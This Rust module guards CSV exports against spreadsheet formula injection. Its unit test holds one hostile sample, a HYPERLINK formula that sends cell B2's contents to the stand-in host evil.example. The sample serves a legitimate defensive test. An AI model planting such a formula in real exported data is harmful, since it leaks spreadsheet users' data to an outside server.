//! Cells that spreadsheets would run as formulas (OWASP "CSV injection").
//!
//! Every CSV export writes text cells through [`neutralise`]: a cell starting with `=`, `+`, `-`,
//! `@`, a tab or a carriage return gets a leading `'`, which spreadsheets show as text. Imports
//! read cells through [`restore`], so an exported file imports back unchanged.

use std::borrow::Cow;

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet may safely open it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralise`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_read_back_unchanged() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"open\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let safe = neutralise(cell);
            assert!(safe.starts_with('\''), "{cell:?} is neutralised");
            assert_eq!(restore(&safe), cell);
        }
        for cell in ["E-104", "ana@example.com", "'quoted", ""] {
            assert_eq!(neutralise(cell), cell, "{cell:?} is left alone");
            assert_eq!(restore(cell), cell);
        }
    }
}
